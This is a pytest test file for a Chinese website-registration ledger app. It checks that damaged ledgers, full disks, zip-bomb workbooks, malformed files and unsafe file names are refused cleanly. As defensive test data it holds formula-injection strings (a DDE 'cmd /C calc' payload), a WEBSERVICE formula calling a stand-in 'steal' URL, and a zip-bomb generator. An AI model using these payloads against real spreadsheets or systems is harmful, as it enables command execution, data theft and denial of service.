"""Hostile and broken input: damaged ledger files, read-only places, a full disk, hostile workbooks,
oversized attachments, formula injection in exports, unsafe file names, and property tests of the
validators and the import mapper. Each case must end in a clear Chinese message and change nothing.
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import os
import re
import shutil
import struct
import subprocess
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from datetime import date, timedelta
from pathlib import Path

import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from db.domain import validators
from db.domain.errors import (
    CorruptLedgerError,
    DiskFullError,
    LedgerError,
    NotALedgerFileError,
    ReadOnlyLedgerError,
    WrongKeyError,
)
from db.models import Attachment, AuditHead, Organization, ProtectedObject
from db.store.backup import make_backup
from db.store.check import check_ledger
from db.store.keys import new_key
from db.store.restore import restore_backup
from db.store.storage import open_ledger
from desktop.cli import main
from desktop.filenames import safe_filename

CJK = re.compile(r"[\u4e00-\u9fff]")
FORMULA_LIKE = re.compile(r"^[\t\r\n ]*[=+\-@]")
HOSTILE_TEXT = [
    "=1+1",
    "+1-2",
    "-3+4",
    "@SUM(A1:A2)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
    ' =HYPERLINK("http://example.invalid","点我")',
]


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _ledger_with_data(path: Path) -> bytes:
    led = open_ledger(path)
    with led.session() as s:
        s.add(Organization(name="河北省机构编制委员会办公室"))
    key = led.key
    led.close()
    assert key is not None
    return key


# =================================================================================================
# damaged ledger files
# =================================================================================================


def _damage(path: Path, how: str) -> None:
    data = bytearray(path.read_bytes())
    if how == "truncated":
        data = data[: len(data) // 2]
    elif how == "header":
        data[:1024] = hashlib.sha512(b"x").digest() * 16
    elif how == "random":
        data = bytearray((hashlib.sha512(b"r").digest() * (len(data) // 64 + 1))[: len(data)])
    elif how == "flipped":
        data[len(data) - 4096 - 200] ^= 0x04  # inside the last page
    path.write_bytes(bytes(data))


@pytest.mark.parametrize("how", ["truncated", "header", "random", "flipped"])
def test_damaged_ledger_is_refused_and_offers_the_latest_backup(ledger_path: Path, how: str, capsys) -> None:
    led = open_ledger(ledger_path)
    with led.session() as s:
        s.add_all(Organization(name=f"单位{i}", notes="x" * 500) for i in range(40))
    backup = make_backup(led)
    led.close()
    _damage(ledger_path, how)
    before = sha256(ledger_path)
    with pytest.raises(CorruptLedgerError) as err:
        open_ledger(ledger_path)
    assert "损坏" in str(err.value) and str(backup) in str(err.value)
    assert err.value.backup == backup
    assert main(["--db", str(ledger_path), "check"]) == 1
    out = capsys.readouterr()
    assert "损坏" in out.err and str(backup) in out.err and "Traceback" not in out.err
    assert sha256(ledger_path) == before
    # and the way out works
    restore_backup(ledger_path, backup)
    led = open_ledger(ledger_path)
    assert check_ledger(led).ok
    led.close()


def test_damaged_ledger_without_backups_says_so(ledger_path: Path) -> None:
    _ledger_with_data(ledger_path)
    _damage(ledger_path, "truncated")
    with pytest.raises(CorruptLedgerError, match="请从备份恢复") as err:
        open_ledger(ledger_path)
    assert err.value.backup is None


def test_wrong_key_with_a_backup_present_still_blames_the_key(ledger_path: Path) -> None:
    led = open_ledger(ledger_path)
    backup = make_backup(led)
    led.close()
    before = sha256(ledger_path)
    with pytest.raises(WrongKeyError, match="密钥不正确") as err:
        open_ledger(ledger_path, key=new_key())
    assert err.value.backup == backup
    assert sha256(ledger_path) == before


def test_zero_byte_ledger(ledger_path: Path) -> None:
    led = open_ledger(ledger_path)
    backup = make_backup(led)
    led.close()
    ledger_path.write_bytes(b"")
    with pytest.raises(CorruptLedgerError, match="0 字节") as err:
        open_ledger(ledger_path)
    assert err.value.backup == backup and ledger_path.stat().st_size == 0
    # with nothing to restore, an empty file simply becomes a new ledger
    shutil.rmtree(backup.parent)
    fresh = open_ledger(ledger_path)
    assert fresh.created
    fresh.close()


def test_a_directory_instead_of_the_ledger_file(tmp_path: Path, capsys) -> None:
    folder = tmp_path / "ledger.db"
    folder.mkdir()
    with pytest.raises(NotALedgerFileError, match="文件夹"):
        open_ledger(folder)
    assert main(["--db", str(folder), "list", "orgs"]) == 1
    assert "文件夹" in capsys.readouterr().err


# =================================================================================================
# read-only file and folder
# =================================================================================================


@contextlib.contextmanager
def read_only(path: Path) -> Iterator[None]:
    """Make ``path`` read-only for this process: chmod as a plain user; as root (which ignores
    permissions) the immutable attribute (chattr +i), skipping when the file system lacks it."""
    if os.geteuid() != 0:
        mode = path.stat().st_mode
        path.chmod(0o555 if path.is_dir() else 0o444)
        try:
            yield
        finally:
            path.chmod(mode)
        return
    chattr = shutil.which("chattr")
    result = (
        subprocess.run([chattr or "chattr", "+i", str(path)], capture_output=True, text=True)
        if chattr
        else None
    )
    if result is None or result.returncode != 0:
        pytest.skip(
            "running as root, which ignores file permissions, and chattr +i is not available here: "
            + (result.stderr.strip() if result else "no chattr")
        )
    try:
        yield
    finally:
        subprocess.run([chattr or "chattr", "-i", str(path)], check=True)


def test_read_only_ledger_file_opens_for_reading_and_refuses_writes(ledger_path: Path, capsys) -> None:
    _ledger_with_data(ledger_path)
    before = sha256(ledger_path)
    with read_only(ledger_path):
        led = open_ledger(ledger_path)
        with led.session(write=False) as s:
            assert s.query(Organization).count() == 1
        with pytest.raises(ReadOnlyLedgerError) as err, led.session() as s:
            s.add(Organization(name="写不进去"))
        assert "只读" in str(err.value) and str(ledger_path) in str(err.value)
        led.close()
        assert main(["--db", str(ledger_path), "demo"]) == 1
        assert "只读" in capsys.readouterr().err
    assert sha256(ledger_path) == before


def test_read_only_folder_is_reported_as_read_only_not_as_damage(ledger_path: Path) -> None:
    _ledger_with_data(ledger_path)
    for side in ("-wal", "-shm"):
        assert not ledger_path.with_name(ledger_path.name + side).exists()
    before = sha256(ledger_path)
    with read_only(ledger_path.parent), pytest.raises(ReadOnlyLedgerError, match="只读"):
        open_ledger(ledger_path)
    assert sha256(ledger_path) == before


# =================================================================================================
# disk full
# =================================================================================================


@pytest.fixture
def tiny_disk(tmp_path: Path) -> Iterator[Path]:
    """A 3 MB tmpfs (needs root or CAP_SYS_ADMIN; skipped otherwise)."""
    mount = tmp_path / "tiny"
    mount.mkdir()
    result = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=3m,mode=0700", "tmpfs", str(mount)],
        capture_output=True,
        text=True,
    )
    if result.returncode != 0:
        pytest.skip(
            f"cannot mount a small tmpfs to simulate a full disk: {result.stderr.strip() or 'not permitted'}"
        )
    try:
        yield mount
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=False)


def _fill(folder: Path) -> Path:
    filler = folder / "filler"
    with filler.open("wb") as fh, contextlib.suppress(OSError):
        while True:
            fh.write(b"\0" * 65536)
            fh.flush()
    return filler


def test_disk_full_refuses_the_write_and_keeps_the_ledger_intact(tiny_disk: Path) -> None:
    path = tiny_disk / "ledger.db"
    led = open_ledger(path)
    with led.session() as s:
        s.add(Organization(name="写满之前"))
    filler = _fill(tiny_disk)
    with pytest.raises(DiskFullError, match="磁盘空间不足") as err, led.session() as s:
        s.add(
            Attachment(
                entity_type="organizations",
                entity_id=1,
                filename="大.pdf",
                size=2_000_000,
                sha256="0" * 64,
                data=os.urandom(2_000_000),
            )
        )
    assert "修改未保存" in str(err.value)
    with pytest.raises(LedgerError, match="磁盘空间不足"):
        make_backup(led, tiny_disk / "backups")
    assert not [p for p in (tiny_disk / "backups").glob("*") if p.is_file()]
    led.close()
    filler.unlink()
    led = open_ledger(path)
    with led.session(write=False) as s:
        assert [o.name for o in s.query(Organization)] == ["写满之前"]
        assert s.query(Attachment).count() == 0
    assert check_ledger(led).ok
    with led.session() as s:
        s.add(Organization(name="腾出空间之后"))
    assert check_ledger(led).ok
    led.close()


# =================================================================================================
# workbooks
# =================================================================================================

_CT = (
    b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
    b'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
    b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WB = (
    b'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
    b'2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    b'<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WB_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
    b'2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)
_SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
    b'spreadsheetml/2006/main">'
)
SHEET = "xl/worksheets/sheet1.xml"


def _member(name: str, data: bytes) -> tuple[str, bytes, int, int]:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return name, c.compress(data) + c.flush(), zlib.crc32(data), len(data)


def _bomb_member(inflated: int) -> tuple[str, bytes, int, int]:
    """Sheet XML of ``inflated`` bytes (one giant text cell), deflated to ~1/1000 without ever
    holding it: full flushes make every 1 MB block compress to the same bytes, repeated."""
    head = _SHEET_HEAD + b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
    foot = b"</t></is></c></row></sheetData></worksheet>"
    block = b"A" * (1 << 20)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    h = c.compress(head) + c.flush(zlib.Z_FULL_FLUSH)
    b = c.compress(block) + c.flush(zlib.Z_FULL_FLUSH)
    f = c.compress(foot) + c.flush()
    n = inflated >> 20
    crc = zlib.crc32(head)
    for _ in range(n):
        crc = zlib.crc32(block, crc)
    return SHEET, h + b * n + f, zlib.crc32(foot, crc), len(head) + n * len(block) + len(foot)


def _raw_zip(members: list[tuple[str, bytes, int, int]], declared: dict[str, int] | None = None) -> bytes:
    """A zip written by hand, so a test can state sizes that do not match the data."""
    out, central = io.BytesIO(), []
    for name, comp, crc, size in members:
        size = (declared or {}).get(name, size)
        offset, raw = out.tell(), name.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(comp), size, len(raw), 0))
        out.write(raw + comp)
        central.append(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                8,
                0,
                0,
                crc,
                len(comp),
                size,
                len(raw),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
            + raw
        )
    start = out.tell()
    out.write(b"".join(central))
    out.write(
        struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), out.tell() - start, start, 0)
    )
    return out.getvalue()


def _xlsx(sheet: tuple[str, bytes, int, int], declared: dict[str, int] | None = None) -> bytes:
    parts = [
        ("[Content_Types].xml", _CT),
        ("_rels/.rels", _RELS),
        ("xl/workbook.xml", _WB),
        ("xl/_rels/workbook.xml.rels", _WB_RELS),
    ]
    return _raw_zip([_member(n, d) for n, d in parts] + [sheet], declared)


def _cells_row(r: int, values: list[str]) -> bytes:
    cells = "".join(
        f'<c r="{chr(65 + i)}{r}" t="inlineStr"><is><t>{v}</t></is></c>' for i, v in enumerate(values)
    )
    return f'<row r="{r}">{cells}</row>'.encode()


def _sheet_xml(rows: list[bytes], dimension: str | None = None) -> bytes:
    dim = f'<dimension ref="{dimension}"/>'.encode() if dimension else b""
    return _SHEET_HEAD + dim + b"<sheetData>" + b"".join(rows) + b"</sheetData></worksheet>"


HEADER = ["单位名称", "网站名称", "英文域名", "中文域名", "是否挂标", "联系人", "联系电话"]


def _hostile_workbooks(tmp: Path) -> dict[str, tuple[Path, str]]:
    """name → (file, a pattern of the message the user must see)."""
    files: dict[str, tuple[Path, str]] = {}

    def put(name: str, data: bytes, expect: str, suffix: str = ".xlsx") -> None:
        path = tmp / f"{name}{suffix}"
        path.write_bytes(data)
        files[name] = (path, expect)

    put("pdf_renamed", b"%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF\n", "不是 Excel 工作簿")
    put("random_bytes", hashlib.sha512(b"noise").digest() * 64, "不是 Excel 工作簿")
    put("empty", b"", "不是 Excel 工作簿")
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    put("password_protected", ole + "EncryptionInfo".encode("utf-16-le") + b"\0" * 512, "已加密")
    put("legacy_xls", ole + b"\0" * 1024, "旧版 Excel", ".xls")
    plain_zip = io.BytesIO()
    with zipfile.ZipFile(plain_zip, "w") as zf:
        zf.writestr("readme.txt", "不是工作簿")
    put("zip_not_workbook", plain_zip.getvalue(), "没有工作簿内容")
    put("broken_zip", b"PK\x03\x04" + b"\x00" * 200, "损坏")
    put(
        "invalid_xml",
        _xlsx(_member(SHEET, _SHEET_HEAD + b'<sheetData><row r="1"><c r="A1" t="inlin')),
        "无法读取工作簿",
    )
    put("zip_bomb_1_1GB", _xlsx(_bomb_member(1100 << 20)), "过大")
    put("zip_bomb_lying_sizes", _xlsx(_bomb_member(1100 << 20), {SHEET: 4096}), "损坏|无法读取工作簿")
    put(
        "huge_sheet_dimension",
        _xlsx(_member(SHEET, _sheet_xml([_cells_row(1, HEADER)], "A1:G150000"))),
        "行数超过上限",
    )
    rows = [_cells_row(1, HEADER)] + [_cells_row(r, [f"单位{r}", "网站"]) for r in range(2, 100_003)]
    put("huge_sheet_rows", _xlsx(_member(SHEET, _sheet_xml(rows))), "行数超过上限")
    return files


@pytest.fixture(scope="module")
def hostile_workbooks(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[Path, str]]:
    return _hostile_workbooks(tmp_path_factory.mktemp("hostile"))


HOSTILE_NAMES = [
    "pdf_renamed",
    "random_bytes",
    "empty",
    "password_protected",
    "legacy_xls",
    "zip_not_workbook",
    "broken_zip",
    "invalid_xml",
    "zip_bomb_1_1GB",
    "zip_bomb_lying_sizes",
    "huge_sheet_dimension",
    "huge_sheet_rows",
]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_workbook_is_refused_plainly_and_changes_nothing(
    name: str, hostile_workbooks, ledger_path: Path, capsys
) -> None:
    _ledger_with_data(ledger_path)
    before = sha256(ledger_path)
    path, expect = hostile_workbooks[name]
    started = time.monotonic()
    assert main(["--db", str(ledger_path), "import", "selfcheck", str(path)]) == 1
    elapsed = time.monotonic() - started
    err = capsys.readouterr().err
    assert re.search(expect, err), err
    assert CJK.search(err) and "Traceback" not in err
    assert elapsed < 10, f"{name}: {elapsed:.1f}s"
    assert sha256(ledger_path) == before


def test_zip_bomb_is_refused_before_inflating(hostile_workbooks) -> None:
    """The 1.1 GB sheet is refused from the declared sizes: no time, no memory spent inflating."""
    from desktop.importers.xlsx_reader import WorkbookError, read_workbook

    path, _ = hostile_workbooks["zip_bomb_1_1GB"]
    assert path.stat().st_size < 2 * 1024 * 1024
    started = time.monotonic()
    with pytest.raises(WorkbookError, match="过大"):
        read_workbook(path)
    assert time.monotonic() - started < 0.5


def test_archive_guard_refuses_members_that_inflate_suspiciously(tmp_path: Path) -> None:
    """desktop.importers.safety: per-member size and ratio limits from the central directory only."""
    from desktop.importers import safety

    cases = {
        "ratio": _xlsx(_bomb_member(300 << 20)),  # 300 MB from ~300 KB: under the total limit
        "member": _xlsx(_bomb_member(300 << 20), {SHEET: safety.MAX_MEMBER_BYTES + 1}),
    }
    for name, data in cases.items():
        path = tmp_path / f"{name}.xlsx"
        path.write_bytes(data)
        started = time.monotonic()
        with zipfile.ZipFile(path) as zf:
            problem = safety.check_zip_members(zf)
        assert problem and CJK.search(problem) and "拒绝导入" in problem, name
        assert time.monotonic() - started < 0.5
    ok = tmp_path / "ok.xlsx"
    ok.write_bytes(_xlsx(_member(SHEET, _sheet_xml([_cells_row(1, HEADER)]))))
    with zipfile.ZipFile(ok) as zf:
        assert safety.check_zip_members(zf) is None


def _table(tmp: Path, rows: list[list[object]], name: str = "t.xlsx") -> Path:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(HEADER)
    for row in rows:
        ws.append(row)
    path = tmp / name
    wb.save(path)
    return path


@pytest.mark.parametrize(
    ("row", "fragment"),
    [
        (["河北省编办", "网站", "www.hebjgbz.gov.cn", "", 2, "", ""], "是否挂标"),
        (["河北省编办", "网站", 12345, "", "是", "", ""], "域名"),
        (["河北省编办", "网站", "", "", date(2015, 11, 15), "", ""], "是否挂标"),
        (["河北省编办", "网站", "", "", "是", "", True], "电话"),
        (["", "网站", "www.a.gov.cn", "", "是", "", ""], "单位名称"),
        (["河北省编办", "网站", "10.1.1.1", "", "是", "", ""], "IP"),
    ],
)
def test_wrong_types_in_cells_reject_the_file_and_write_nothing(
    ledger_path: Path, tmp_path: Path, row, fragment, capsys
) -> None:
    _ledger_with_data(ledger_path)
    before = sha256(ledger_path)
    good = ["河北省事业单位登记管理局", "网站", "", "河北省事业单位登记管理局.政务", "是", "", ""]
    path = _table(tmp_path, [good, row])
    assert main(["--db", str(ledger_path), "import", "selfcheck", str(path)]) == 1
    out = capsys.readouterr()
    assert fragment in out.out and "未写入任何内容" in out.err
    assert sha256(ledger_path) == before


def test_formula_cells_are_read_as_their_values_never_evaluated(ledger, tmp_path: Path) -> None:
    from desktop.services.imports import import_file

    header = _cells_row(1, HEADER)
    formula_row = (
        b'<row r="2"><c r="A2" t="str"><f>CONCATENATE("\xe6\xb2\xb3\xe5\x8c\x97","\xe7\x9c\x81\xe7\xbc\x96\xe5\x8a\x9e")'
        b"</f><v>\xe6\xb2\xb3\xe5\x8c\x97\xe7\x9c\x81\xe7\xbc\x96\xe5\x8a\x9e</v></c>"
        b'<c r="B2" t="str"><f>WEBSERVICE("http://example.invalid/steal")</f><v>\xe7\xbd\x91\xe7\xab\x99</v></c>'
        b'<c r="C2"><f>1+1</f><v>2</v></c></row>'
    )
    path = tmp_path / "formulas.xlsx"
    path.write_bytes(_xlsx(_member(SHEET, _sheet_xml([header, formula_row]))))
    result = import_file(ledger, path, "selfcheck", dry_run=True)
    text = repr(result.plan.as_dict())
    assert "CONCATENATE" not in text and "WEBSERVICE" not in text
    assert "河北省编办" in text
    assert not result.written


def test_attachment_over_the_size_limit_is_refused(ledger, tmp_path: Path) -> None:
    from desktop.services.attachments import add_file

    with ledger.session() as s:
        org = Organization(name="甲")
        s.add(org)
        s.flush()
        org_id = org.id
    big = tmp_path / "扫描件.pdf"
    big.write_bytes(b"%PDF-1.7\n" + os.urandom(2 * 1024 * 1024))
    with ledger.connect() as conn:
        head_before = conn.execute(sa.select(AuditHead.last_event_id)).scalar()
    with pytest.raises(validators.ValidationError, match="超过了允许的 1 MB"):
        add_file(ledger, "organizations", org_id, big, max_mb=1)
    with ledger.session(write=False) as s:
        assert s.query(Attachment).count() == 0
    with ledger.connect() as conn:
        assert conn.execute(sa.select(AuditHead.last_event_id)).scalar() == head_before
    add_file(ledger, "organizations", org_id, big, max_mb=5)  # under a raised limit it is accepted


# =================================================================================================
# exports never carry formulas
# =================================================================================================


def _hostile_ledger(path: Path) -> object:
    from db.demo.unit import build_demo
    from db.models import Finding

    led = open_ledger(path)
    build_demo(led, today=date(2026, 11, 21))
    with led.session() as s:
        orgs = s.query(Organization).order_by(Organization.id).limit(len(HOSTILE_TEXT)).all()
        objs = s.query(ProtectedObject).order_by(ProtectedObject.id).limit(len(HOSTILE_TEXT)).all()
        finds = s.query(Finding).order_by(Finding.id).limit(len(HOSTILE_TEXT)).all()
        for text, org, obj, finding in zip(HOSTILE_TEXT, orgs, objs, finds, strict=False):
            org.name = text + "单位"
            obj.name = text + "网站"
            obj.site_name = text
            finding.title = text
            finding.description = text
    return led


def _check_xlsx(path: Path) -> int:
    """Assert no cell is a formula and formula-like text is marked as text; return the number checked."""
    from openpyxl import load_workbook

    checked = 0
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and FORMULA_LIKE.match(cell.value):
                    assert cell.quotePrefix or cell.value.startswith("'"), (
                        path.name,
                        cell.coordinate,
                        cell.value,
                    )
                    checked += 1
    return checked


@pytest.mark.parametrize("kind", ["selfcheck", "summary", "worksummary", "ledger"])
def test_workbook_exports_neutralise_formula_text(ledger_path: Path, tmp_path: Path, kind: str) -> None:
    _hostile_ledger(ledger_path).close()  # type: ignore[attr-defined]
    out = tmp_path / f"{kind}.xlsx"
    assert main(["--db", str(ledger_path), "export", kind, "--out", str(out), "--today", "2026-11-21"]) == 0
    assert _check_xlsx(out) > 0


@pytest.fixture(scope="module")
def list_exports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The organisations list of a ledger holding hostile names, exported to .xlsx and .csv."""
    from desktop.services.table_export import export_rows

    folder = tmp_path_factory.mktemp("list-export")
    led = _hostile_ledger(folder / "ledger.db")
    with led.session(write=False) as s:  # type: ignore[attr-defined]
        ids = [i for (i,) in s.query(Organization.id).order_by(Organization.id)]
    out = {}
    for suffix in ("xlsx", "csv"):
        out[suffix] = folder / f"orgs.{suffix}"
        export_rows(led, "organizations", ids, [0], ["单位名称"], out[suffix], today=date(2026, 11, 21))
    led.close()  # type: ignore[attr-defined]
    return out


@pytest.mark.parametrize("text", HOSTILE_TEXT)
def test_list_exports_neutralise_formula_text(list_exports: dict[str, Path], text: str) -> None:
    from openpyxl import load_workbook

    cells = [c for row in load_workbook(list_exports["xlsx"]).active.iter_rows() for c in row]
    (cell,) = [c for c in cells if isinstance(c.value, str) and c.value.removeprefix("'") == text + "单位"]
    assert cell.data_type != "f"
    assert cell.quotePrefix or cell.value.startswith("'"), repr(cell.value)
    with list_exports["csv"].open(encoding="utf-8-sig", newline="") as fh:
        (value,) = [row[0] for row in csv.reader(fh) if row[0].removeprefix("'") == text + "单位"]
    assert value.startswith("'"), repr(value)


# =================================================================================================
# file names from user text
# =================================================================================================

_WINDOWS_RESERVED = re.compile(r"^(CON|PRN|AUX|NUL|COM[1-9¹²³]|LPT[1-9¹²³])(\..*)?$", re.IGNORECASE)


def test_safe_filename_examples() -> None:
    assert safe_filename("河北省编办/网站:备案表?.pdf") == "河北省编办_网站_备案表_.pdf"
    assert safe_filename("CON") == "_CON" and safe_filename("nul.txt") == "_nul.txt"
    assert safe_filename("com1 .pdf") == "_com1.pdf"
    assert safe_filename("报告. . ") == "报告"
    assert safe_filename("   ") == "未命名" and safe_filename("..") == "未命名"
    assert safe_filename("a\u202egnp.exe") == "agnp.exe"  # no right-to-left override tricks
    long = safe_filename("很长的单位名称" * 40 + ".xlsx")
    assert long.endswith(".xlsx") and len(long.encode()) <= 240


@given(st.text(max_size=400), st.integers(min_value=8, max_value=200))
@settings(max_examples=400)
def test_safe_filename_properties(text: str, max_length: int) -> None:
    name = safe_filename(text, max_length=max_length)
    assert name and len(name) <= max_length and len(name.encode("utf-8")) <= 240
    assert not re.search(r'[\\/:*?"<>|\x00-\x1f\x7f]', name)
    assert not name.endswith((".", " ")) and name not in (".", "..")
    assert not _WINDOWS_RESERVED.match(name.rstrip(" ")) and not _WINDOWS_RESERVED.match(
        name.split(".")[0].strip()
    )
    assert safe_filename(name, max_length=max_length) == name  # stable


# =================================================================================================
# property tests: validators, the domain splitter, the import mapper
# =================================================================================================

ANY_CELL = st.one_of(
    st.none(),
    st.text(max_size=60),
    st.text(alphabet="0123456789-/.年月日 〇一二三四五六七八九十", max_size=20),
    st.integers(min_value=-(10**12), max_value=10**12),
    st.floats(allow_nan=True, allow_infinity=True),
    st.booleans(),
    st.dates(),
)
VALIDATORS: list[Callable[[object], object]] = [
    validators.uscc,
    validators.phone,
    validators.email,
    validators.domain,
    validators.icp_number,
    validators.psb_number,
    validators.certificate_no,
    validators.form_number,
    validators.site_code,
    validators.region_code,
    validators.postcode,
    validators.parse_date,
]


@given(value=ANY_CELL, which=st.sampled_from(VALIDATORS))
@settings(max_examples=600, suppress_health_check=[HealthCheck.too_slow])
def test_validators_accept_or_explain_in_chinese(value: object, which) -> None:
    try:
        which(value)
    except validators.ValidationError as exc:
        assert CJK.search(exc.message), exc.message


@given(st.dates(min_value=date(1900, 3, 1), max_value=date(2100, 12, 31)))
def test_parse_date_reads_every_common_form(d: date) -> None:
    fullwidth = str.maketrans("0123456789", "０１２３４５６７８９")
    forms = [
        d,
        d.isoformat(),
        f"{d.year}年{d.month}月{d.day}日",
        f"{d.year}/{d.month}/{d.day}",
        f"{d.year}.{d.month:02d}.{d.day:02d}",
        f"{d:%Y%m%d}",
        int(f"{d:%Y%m%d}"),
        (d - date(1899, 12, 30)).days,  # Excel serial
        float((d - date(1899, 12, 30)).days) + 0.5,  # serial with a time of day
        f"{d.year}年{d.month}月{d.day}日".translate(fullwidth),
        d.isoformat() + " 08:30:00",
    ]
    for form in forms:
        assert validators.parse_date(form) == d, form


@given(st.text(alphabet="0123456789ABCDEFGHJKLMNPQRTUWXY", min_size=17, max_size=17), st.data())
def test_uscc_checksum_catches_any_single_substitution(body: str, data: st.DataObject) -> None:
    from stdnum.cn import uscc as stdnum_uscc

    body = body[:2] + "".join(c if c.isdigit() else "1" for c in body[2:8]) + body[8:]
    code = body + stdnum_uscc.calc_check_digit(body)
    assert validators.uscc(code) == code
    assert validators.uscc(" " + code.lower() + " ") == code
    pos = data.draw(st.integers(min_value=0, max_value=17))
    repl = data.draw(st.sampled_from("0123456789ABCDEFGHJKLMNPQRTUWXY").filter(lambda c: c != code[pos]))
    with pytest.raises(validators.ValidationError):
        validators.uscc(code[:pos] + repl + code[pos + 1 :])


LABEL = st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789", min_size=1, max_size=12).filter(
    lambda s: not s.isdigit()
)
DOMAIN = st.builds(
    lambda a, b, tld: f"{a}.{b}.{tld}", LABEL, LABEL, st.sampled_from(["gov.cn", "cn", "com", "政务", "公益"])
)


@given(
    st.lists(DOMAIN, min_size=1, max_size=6, unique=True),
    st.lists(st.sampled_from(["\n", " ", "、", "，", ";", "；", " | "]), min_size=6, max_size=6),
)
def test_split_domains_round_trip(domains: list[str], seps: list[str]) -> None:
    cell = "".join(d + s for d, s in zip(domains, seps, strict=False)).rstrip()
    assert validators.split_domains(cell) == domains
    numbered = " ".join(f"{i + 1}. {d}" for i, d in enumerate(domains))
    assert validators.split_domains(numbered) == domains
    dotted = "、".join(d.replace(".", "·") for d in domains)
    assert validators.split_domains(dotted) == domains


@given(ANY_CELL)
@settings(max_examples=400)
def test_split_domains_never_fails_and_gives_clean_tokens(cell: object) -> None:
    tokens = validators.split_domains(cell)
    assert isinstance(tokens, list)
    assert len({t.lower() for t in tokens}) == len(tokens)
    for token in tokens:
        assert token and not re.search(r"[\s,;、|]", token)
        with contextlib.suppress(validators.ValidationError):
            parsed = validators.domain(token)
            assert parsed.ascii_name.isascii()
            assert validators.domain(parsed.name) == parsed  # idempotent


@given(st.lists(st.lists(ANY_CELL, min_size=0, max_size=9), max_size=25))
@settings(max_examples=200, suppress_health_check=[HealthCheck.too_slow])
def test_import_mapper_never_crashes_and_explains_every_problem(rows: list[list[object]]) -> None:
    from desktop.importers.website_tables import parse_table
    from desktop.importers.xlsx_reader import Sheet

    for kind, header in (("selfcheck", HEADER), ("summary", ["主管部门", *HEADER])):
        sheet = Sheet("Sheet1", [["标题"], list(header), *rows])
        parsed = parse_table([sheet], kind)
        rows_with_issues = {issue.row for issue in parsed.errors}
        for record in parsed.records:
            if not (record.unit and record.site):
                assert record.row in rows_with_issues  # an incomplete row is never silently accepted
            assert all(d.ascii_name.isascii() for d in record.domains)
        for issue in parsed.errors:
            assert CJK.search(issue.message) and issue.row >= 1


def test_dates_as_numbers_or_text_in_a_real_workbook(tmp_path: Path) -> None:
    """A date column typed as a date, an Excel serial, or text reads back as the same day."""
    from openpyxl import Workbook

    from desktop.importers.xlsx_reader import read_workbook

    d = date(2015, 11, 15)
    wb = Workbook()
    wb.active.append([d, (d - date(1899, 12, 30)).days, "2015年11月15日", "2015/11/15", "20151115"])
    wb.save(tmp_path / "d.xlsx")
    cells = read_workbook(tmp_path / "d.xlsx")[0].rows[0]
    assert {validators.parse_date(c) for c in cells} == {d}
    assert validators.parse_date(d + timedelta(days=0)) == d
